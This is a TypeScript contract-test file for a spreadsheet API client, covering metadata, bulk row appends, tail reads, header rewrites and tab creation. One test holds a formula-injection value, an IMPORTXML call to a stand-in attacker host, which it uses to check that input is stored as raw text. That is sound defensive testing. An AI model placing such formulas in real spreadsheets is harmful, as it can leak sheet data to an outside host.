import type { ContractContext } from './contract-helpers';
import { expectKind, failure, row } from './contract-helpers';

/** What the client does with a healthy backend: read, append, header, tabs, RAW values. */
export function dataContract(ctx: () => ContractContext): void {
  it('describes a spreadsheet: its title and every tab with id, position and grid size', async () => {
    const info = await ctx().client.getSpreadsheet(ctx().spreadsheetId);
    expect(info.spreadsheetId).toBe(ctx().spreadsheetId);
    expect(info.sheets).toEqual([
      {
        sheetId: expect.any(Number) as number,
        title: 'Sheet1',
        index: 0,
        rowCount: 1000,
        columnCount: 26,
      },
    ]);
  });

  it('appends many rows per request below the header, in order, and says where they landed', async () => {
    await ctx().client.writeHeader(ctx().spreadsheetId, 'Sheet1', [
      'responseId',
      'a',
      'b',
      'c',
      'd',
      'e',
      'f',
      'g',
    ]);
    const first = await ctx().client.append(
      ctx().spreadsheetId,
      'Sheet1',
      Array.from({ length: 500 }, (_, i) => row(i)),
    );
    const second = await ctx().client.append(
      ctx().spreadsheetId,
      'Sheet1',
      Array.from({ length: 500 }, (_, i) => row(500 + i)),
    );
    expect(first).toMatchObject({
      firstRow: 2,
      lastRow: 501,
      updatedRows: 500,
      updatedCells: 4000,
    });
    expect(second).toMatchObject({ firstRow: 502, lastRow: 1001, updatedRows: 500 });
    const rows = await ctx().client.readRange(ctx().spreadsheetId, {
      sheet: 'Sheet1',
      fromRow: 1,
      toRow: 1001,
    });
    expect(rows.map((r) => r.values[0])).toEqual([
      'responseId',
      ...Array.from({ length: 1000 }, (_, i) => `response-${i}`),
    ]);
    expect(rows[1000]).toEqual({ rowNumber: 1001, values: row(999) });
  });

  it('reads the tail of a tab: the last rows up to the last written one, with their row numbers', async () => {
    await ctx().client.writeHeader(ctx().spreadsheetId, 'Sheet1', ['responseId']);
    await ctx().client.append(
      ctx().spreadsheetId,
      'Sheet1',
      Array.from({ length: 30 }, (_, i) => row(i, 2)),
    );
    const tail = await ctx().client.readTail(ctx().spreadsheetId, 'Sheet1', 3);
    expect(tail).toEqual([
      { rowNumber: 29, values: row(27, 2) },
      { rowNumber: 30, values: row(28, 2) },
      { rowNumber: 31, values: row(29, 2) },
    ]);
    expect(await ctx().client.readTail(ctx().spreadsheetId, 'Sheet1', 100)).toHaveLength(31);
  });

  it('finds the tail below thousands of empty grid rows and returns nothing for an empty tab', async () => {
    await ctx().client.addSheet(ctx().spreadsheetId, 'Tall', { rowCount: 6000, columnCount: 3 });
    expect(await ctx().client.readTail(ctx().spreadsheetId, 'Tall', 5)).toEqual([]);
    await ctx().client.append(ctx().spreadsheetId, 'Tall', [row(1, 2), row(2, 2)]);
    expect(await ctx().client.readTail(ctx().spreadsheetId, 'Tall', 1)).toEqual([
      { rowNumber: 2, values: row(2, 2) },
    ]);
  });

  it('stores values as sent (RAW): an answer starting with "=" arrives as text, never as a formula', async () => {
    const injection = '=IMPORTXML("https://attacker.example/x", "//a")';
    await ctx().client.append(ctx().spreadsheetId, 'Sheet1', [
      ['r1', injection, '+1', '0042', 42, true],
    ]);
    const [stored] = await ctx().client.readRange(ctx().spreadsheetId, {
      sheet: 'Sheet1',
      fromRow: 1,
      toRow: 1,
    });
    expect(stored?.values).toEqual(['r1', injection, '+1', '0042', 42, true]);
  });

  it('rewrites only the header row: a wider header leaves every row below as it was', async () => {
    await ctx().client.writeHeader(ctx().spreadsheetId, 'Sheet1', ['responseId', 'q1']);
    await ctx().client.append(ctx().spreadsheetId, 'Sheet1', [
      ['r1', 'x'],
      ['r2', 'y'],
    ]);
    await ctx().client.writeHeader(ctx().spreadsheetId, 'Sheet1', [
      'responseId',
      'Question one',
      'q2',
    ]);
    const rows = await ctx().client.readRange(ctx().spreadsheetId, {
      sheet: 'Sheet1',
      fromRow: 1,
      toRow: 3,
    });
    expect(rows.map((r) => r.values)).toEqual([
      ['responseId', 'Question one', 'q2'],
      ['r1', 'x'],
      ['r2', 'y'],
    ]);
  });

  it('adds a tab with the grid asked for, and refuses a title already taken as sheet_already_exists', async () => {
    const added = await ctx().client.addSheet(ctx().spreadsheetId, "Responses (2) — it's", {
      rowCount: 10,
      columnCount: 4,
    });
    expect(added).toMatchObject({
      title: "Responses (2) — it's",
      index: 1,
      rowCount: 10,
      columnCount: 4,
    });
    await ctx().client.append(ctx().spreadsheetId, added.title, [['r1']]);
    expect(await ctx().client.readTail(ctx().spreadsheetId, added.title, 1)).toEqual([
      { rowNumber: 1, values: ['r1'] },
    ]);
    expectKind(
      await failure(ctx().client.addSheet(ctx().spreadsheetId, "responses (2) — IT'S")),
      'sheet_already_exists',
      'neither',
    );
  });
}
